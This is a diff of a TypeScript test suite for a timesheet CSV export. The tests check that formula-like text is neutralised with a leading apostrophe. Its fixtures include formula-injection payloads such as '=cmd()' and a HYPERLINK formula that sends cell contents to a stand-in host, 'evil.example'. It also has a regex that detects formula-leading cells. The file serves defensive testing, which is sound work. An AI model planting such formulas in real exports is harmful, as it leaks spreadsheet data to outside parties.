@@ -34,24 +34,24 @@ class Payroll implements LocalApp {
   }
 }
 
-/** Texts that trip up a careless file, or that a spreadsheet would run. */
-const AWKWARD = [
-  'Call with "Northwind", follow-up',
-  'Notes:\n- budget\r\n- timeline',
-  'Müller & Söhne — Größe, 打ち合わせ 🗓️',
-  ' a space in front, and behind ',
-  '"',
-  "'quoted'",
-  '=SUM(A1:A9)',
-  '=HYPERLINK("https://evil.example?"&A1, "click")',
-  '+44 20 7946 0000 called back',
-  '-10% discount talk',
-  '@mention clean-up',
-  '\t=1+1',
-  '\r=1+1',
-] as const;
-
-const RUNS_IN_A_SHEET = /^[=+\-@\t\r]/;
+/** Texts that trip up a careless file, or that a spreadsheet would run, and what the file has for them. */
+const AWKWARD = {
+  'Call with "Northwind", follow-up': 'Call with "Northwind", follow-up',
+  'Notes:\r\n- budget\r\n- timeline': 'Notes: - budget - timeline',
+  'Müller & Söhne — Größe, 打ち合わせ 🗓️':
+    'Müller & Söhne — Größe, 打ち合わせ 🗓️',
+  ' a space in front, and behind ': ' a space in front, and behind ',
+  '"': '"',
+  "'quoted'": "'quoted'",
+  '=SUM(A1:A9)': "'=SUM(A1:A9)",
+  '=HYPERLINK("https://evil.example?"&A1, "click")': `'=HYPERLINK("https://evil.example?"&A1, "click")`,
+  '+44 20 7946 0000 called back': "'+44 20 7946 0000 called back",
+  '-10% discount talk': "'-10% discount talk",
+  '@mention clean-up': "'@mention clean-up",
+  '\t=1+1': "\t'=1+1",
+  '\r=1+1': " '=1+1",
+  'x;=HYPERLINK("https://evil.example")': `x;'=HYPERLINK("https://evil.example")`,
+} as const;
 
 const payroll = new Payroll();
 let trial: Trial;
@@ -118,6 +118,7 @@ let awkward: { id: string; text: string }[];
 let atMidnight: Wire;
 let overTheGap: Wire;
 let ofACleverProject: Wire;
+let tags: Wire[];
 
 beforeAll(async () => {
   trial = await startTrial({
@@ -126,7 +127,7 @@ beforeAll(async () => {
     apps: [payroll],
   });
   awkward = [];
-  for (const text of AWKWARD) {
+  for (const text of Object.keys(AWKWARD)) {
     const { id } = await addEntry(
       '2026-04-06T13:00:00Z',
       '2026-04-06T14:00:00Z',
@@ -143,13 +144,14 @@ beforeAll(async () => {
     name: '=cmd()',
     client_id: client.id,
   });
+  tags = (await trial.api<Wire[]>('GET', '/tags?per_page=2')).slice(0, 2);
   ofACleverProject = await addEntry(
     '2026-04-07T13:00:00Z',
     '2026-04-07T13:50:00Z',
     {
       project_id: project.id,
       billable: true,
-      tag_ids: ['tag_1', 'tag_2'],
+      tag_ids: tags.map(({ id }) => id),
     },
   );
   entries = new Map((await everyEntry()).map((entry) => [entry.id, entry]));
@@ -191,8 +193,8 @@ describe('the timesheet of a detailed report', () => {
   it('says of each entry who worked on what, for how long', () => {
     expect(lineOf(ofACleverProject.id)).toEqual({
       Date: '2026-04-07',
-      Start: '09:00',
-      End: '09:50',
+      Start: '2026-04-07 09:00',
+      End: '2026-04-07 09:50',
       Duration: '0:50:00',
       Hours: '0.83',
       Billable: 'yes',
@@ -201,58 +203,50 @@ describe('the timesheet of a detailed report', () => {
       Project: "'=cmd()",
       Task: '',
       Description: '',
-      'Tag IDs': 'tag_1; tag_2',
+      Tags: tags.map(({ name }) => name).join('; '),
       'Entry ID': ofACleverProject.id,
     });
   });
 
-  it.each(AWKWARD.filter((text) => !RUNS_IN_A_SHEET.test(text)))(
-    'keeps %j as it is',
-    (text) => {
-      const { id = '' } = awkward.find((each) => each.text === text) ?? {};
-      expect(lineOf(id).Description).toBe(text);
-    },
-  );
-
-  it.each(AWKWARD.filter((text) => RUNS_IN_A_SHEET.test(text)))(
-    'keeps a spreadsheet from running %j',
-    (text) => {
-      const { id = '' } = awkward.find((each) => each.text === text) ?? {};
-      expect(lineOf(id).Description).toBe(`'${text}`);
-    },
-  );
+  it.each(Object.entries(AWKWARD))('has %j as %j', (text, cell) => {
+    const { id = '' } = awkward.find((each) => each.text === text) ?? {};
+    expect(lineOf(id).Description).toBe(cell);
+  });
 
   it('has no cell at all that a spreadsheet would run', () => {
     const dangerous = lines
       .flatMap((line) => Object.values(line))
-      .filter((cell) => RUNS_IN_A_SHEET.test(cell));
+      .filter((cell) => /^\s*[=+\-@]/.test(cell));
     expect(dangerous).toEqual([]);
   });
 
   it('has the description of every entry, whatever is in it', () => {
-    for (const line of lines) {
-      const entry = entries.get(line['Entry ID'] ?? '');
-      const description = (entry?.description ?? '') as string;
-      const neutral = RUNS_IN_A_SHEET.test(description)
-        ? `'${description}`
-        : description;
-      expect(line.Description).toBe(neutral);
-    }
+    // But for the line breaks, and the apostrophes against formulas.
+    const plain = (text: string) =>
+      text.replaceAll(/\s+/g, ' ').replaceAll("'", '');
+    expect(
+      lines.map((line) => [line['Entry ID'], plain(line.Description ?? '')]),
+    ).toEqual(
+      lines.map((line) => {
+        const id = line['Entry ID'] ?? '';
+        return [id, plain((entries.get(id)?.description ?? '') as string)];
+      }),
+    );
   });
 
   it('has local times: an entry belongs to the day that it is in the zone', () => {
     expect(lineOf(atMidnight.id)).toMatchObject({
       Date: '2026-04-30',
-      Start: '23:30',
-      End: '00:30',
+      Start: '2026-04-30 23:30',
+      End: '2026-05-01 00:30',
     });
   });
 
   it('has the times that clocks showed on the day summer time began', () => {
     expect(lineOf(overTheGap.id)).toMatchObject({
       Date: '2026-03-08',
-      Start: '01:30',
-      End: '03:30',
+      Start: '2026-03-08 01:30',
+      End: '2026-03-08 03:30',
       Duration: '1:00:00',
     });
   });
@@ -266,9 +260,9 @@ const write = () =>
   );
 
 describe('writing the file', () => {
-  it('takes one request for 200 entries', async () => {
+  it('takes one request for 200 entries, and one for the tags', async () => {
     const asked = await trial.askedDuring(write);
-    expect(asked).toHaveLength(Math.ceil(entries.size / 200));
+    expect(asked).toHaveLength(Math.ceil(entries.size / 200) + 1);
   });
 
   it('happens only when a Zap uses it', async () => {
